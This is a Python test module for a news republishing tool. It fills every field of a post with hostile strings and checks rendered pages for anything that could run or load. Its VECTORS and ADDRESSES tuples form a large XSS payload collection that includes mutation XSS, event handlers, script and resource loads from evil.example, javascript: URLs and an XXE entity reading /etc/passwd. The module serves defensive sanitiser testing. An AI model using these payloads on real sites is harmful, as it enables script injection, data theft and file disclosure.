"""Hostile texts of our own in every field, and what no published page may hold.

Judged by an HTML parser; tests/republish/test_in_browser.py asks a browser.
"""

import re
from collections.abc import Iterator
from dataclasses import replace

from lxml import html
from lxml.html import HtmlElement

from seoulwire.configuration import Rights, load_configuration
from seoulwire.content import Figure, Paragraph, parse_blocks, parse_html, plain_text
from seoulwire.items import Citation, Entry, FileLink
from seoulwire.repair.record import Repaired

from .factories import article, entry, post, repaired

# Shows all of a post, whoever it cites.
OPEN = replace(load_configuration(), unknown_rights=Rights(text="full", images="link"))
# How a script begins, in every kind of field; then how elements, handlers and addresses do.
VECTORS = (
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea></style></noscript><img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' autofocus onfocus='alert(1)",
    "<math><annotation-xml encoding='text/html'><img src onerror=alert(1)></annotation-xml></math>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<form action='https://evil.example/'><input name=body></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "]]><script>alert(1)</script><![CDATA[",
    "{{ 7 * 7 }}{% raw %}<script>alert(1)</script>",
    "\x00<scr\x00ipt>alert(1)</script>\u202e\ufffe",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<div id=main style='position:fixed;inset:0'>",
    # other ways to begin a script
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/x>alert(1)</script >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>import('https://evil.example/x.js')</script>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "--!><script>alert(1)</script>",
    "</xmp></plaintext></script><script>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\ufe64script\ufe65alert(1)\ufe64/script\ufe65",
    # Latin letters beyond ASCII that lower-case to ASCII ones
    "<\u017fcript>alert(1)</\u017fcript>",
    # breaking out of JSON, of attributes, of comments
    '";alert(1);//',
    "';alert(1);//",
    "</script><svg/onload=alert(1)>",
    "\u2028alert(1)\u2029",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "`${alert(1)}`",
    "*/alert(1)/*",
    # mutation: what a second parser makes of what the first one wrote
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><style><!--</style><i title='--&gt;&lt;img src=1 onerror=a()&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<select><template><style><!--</style></template><img src onerror=alert(1)></select>",
    "<listing>&lt;img src onerror=alert(1)&gt;</listing>",
    "<p id='</p><img src onerror=alert(1)>'>",
    "<b>" * 600 + "<img src onerror=alert(1)>",
    # handlers
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<div onpointerenter=alert(1) style='position:fixed;inset:0'>",
    "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart=alert(1)>",
    "<xss contenteditable onbeforeinput=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<img src=x onerror\t=\talert(1)>",
    "<img src=x on\x0berror=alert(1)>",
    "<image src=x onerror=alert(1)>",
    # what loads something
    "<img src=https://evil.example/p.gif srcset='https://evil.example/q.gif 2x'>",
    "<video poster=https://evil.example/p.gif src=https://evil.example/v.mp4 autoplay>",
    "<audio src=https://evil.example/a.mp3 autoplay>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.swf>",
    "<iframe src=https://evil.example/></iframe>",
    "<link rel=preconnect href=https://evil.example/>",
    "<link rel=prefetch href=https://evil.example/x>",
    "<a href=https://evil.example/ ping=https://evil.example/ping>x</a>",
    "<svg><image href=https://evil.example/x.png></image><use href=https://evil.example/#x></use></svg>",
    "<table background=https://evil.example/b.gif><tr><td background=https://evil.example/c.gif>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<p style='background:url(https://evil.example/x)'>",
    "<input type=image src=https://evil.example/x>",
    "<portal src=https://evil.example/></portal>",
    # clobbering of names, overlays
    "<a id=results></a><a id=results name=show href='https://evil.example/'>",
    "<img name=getElementById>",
    "<form id=q><input name=value value=x></form>",
    "<div class=skip style='position:fixed;inset:0;z-index:9'>",
    "<dialog open><form method=dialog><button formaction=javascript:alert(1)>x</button></form>",
    # templates of servers and of frameworks
    "{{constructor.constructor('alert(1)')()}}",
    "${7*7}<%= 7*7 %>#{7*7}",
    "<x-template v-html='alert(1)' ng-app ng-init=alert(1)>",
    # XML
    "<?xml-stylesheet href='https://evil.example/x.xsl'?><x/>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<html:img xmlns:html='http://www.w3.org/1999/xhtml' src='x' onerror='alert(1)'/>",
    # direction and invisible characters
    "\u202egnp.tpircs<script>\u202c",
    "\ufeff<script>alert(1)</script>\u200b",
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    " javascript:alert(1)",
    "java\nscript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/x",
    "https:evil.example",
    "http://",
    "http://[::1",
    "ftp://evil.example/",
    "file:///etc/passwd",
    'https://evil.example/"><script>alert(1)</script>',
    "https://evil.example/' onmouseover='alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "&#106;avascript:alert(1)",
    "java\x00script:alert(1)",
    "java\u2028script:alert(1)",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "blob:https://evil.example/1",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "javascript://seoulsolution.kr/%0aalert(1)",
    "https://user:word@evil.example\\@seoulsolution.kr/",
    "\\\\evil.example\\x",
    "https://seoulsolution.kr/\u202egnp.js",
)
ALLOWED_TAGS = frozenset(
    (
        *("html", "head", "meta", "title", "link", "body", "header", "main", "footer", "nav"),
        *("h1", "h2", "h3", "h4", "h5", "h6", "p", "br", "div", "span", "section", "article"),
        *("aside", "ul", "ol", "li", "dl", "dt", "dd", "table", "thead", "tbody", "tr", "th"),
        *("td", "figure", "figcaption", "blockquote", "details", "summary", "a", "time", "ins"),
        *("del", "bdi", "img"),
        # the page that searches, and the plots of the dashboard
        *("form", "label", "input", "button", "noscript", "svg", "line", "rect", "text"),
    )
)
PICTURE = "https://seoulsolution.kr/a.jpg"
SEOUL = "https://english.seoul.go.kr/bridge"
# The one script there is, and where the one form leads.
SCRIPT = "search.js"
FORM_ACTION = "search.html"
ADDRESS_ATTRIBUTES = ("href", "src", "action", "formaction", "srcset", "poster", "data", "ping")


def hostile_entry(vector: str) -> Entry:
    """Return a post that says ``vector`` in each of its fields and in those of its article.

    Its body holds it as text, and as what is read of it where it is markup.
    """
    line = re.sub(r"[\t\n\r\f]", " ", vector)
    read = parse_blocks(parse_html(f"<div>{vector}</div>"), "https://seoulsolution.kr/en/")
    blocks = (Paragraph(line), Figure(PICTURE, line, line, line), *read)
    shown = post(
        id=f"portal:{line}",
        licence="KOGL-1",
        url=f"https://seoulsolution.kr/en/{line}",
        board=line,
        title=Repaired.unchanged(line),
        tag=line,
        source=line,
        writer=line,
        department=line,
        byline=line,
        language=line,
        body=Repaired.unchanged(plain_text(blocks)),
        blocks=blocks,
        citations=(
            Citation(url=line, found="link"),
            Citation(url=f"https://evil.example/{line}", found="link"),
        ),
        attachments=(
            FileLink(url=f"https://seoulsolution.kr/{line}", name=line, size_text=line),
            FileLink(url=line, name=line),
        ),
    )
    title = repaired(f"{line} ��", ("��", line), detail=line)
    target = article(SEOUL, line, title=title, licence="KOGL-1")
    return entry(replace(shown, title=title), target)


def faults(page: str) -> Iterator[str]:
    """Yield what a page or fragment holds that could run or load something."""
    for element in html.document_fromstring(page).iter():
        if not isinstance(element, HtmlElement):
            yield f"a comment or instruction: {element!r}"
            continue
        if element.tag == "script" and element.get("src") == SCRIPT and not element.text:
            continue
        if element.tag == "form" and element.get("action") != FORM_ACTION:
            yield f"a form to {element.get('action')!r}"
        if element.tag not in ALLOWED_TAGS:
            yield f"<{element.tag}>"
        if element.tag == "img" and not str(element.get("src")).startswith("../pictures/"):
            yield f"<img src={element.get('src')!r}>"
        yield from _attribute_faults(element)


def _attribute_faults(element: HtmlElement) -> Iterator[str]:
    for name, value in element.attrib.items():
        if str(name).startswith("on") or name in {"style", "srcdoc", "background"}:
            yield f"<{element.tag} {name}>"
        if name in ADDRESS_ATTRIBUTES and not _is_harmless(str(value)):
            yield f"<{element.tag} {name}={value!r}>"
        is_sheet = element.tag == "link" and value == "stylesheet"
        if is_sheet and str(element.get("href")).lstrip("./") != "style.css":
            yield f"a stylesheet at {element.get('href')!r}"


def _is_harmless(address: str) -> bool:
    scheme = address.strip().partition(":")[0].lower()
    is_own = ":" not in address and not address.startswith("/")
    return scheme in {"http", "https"} or is_own
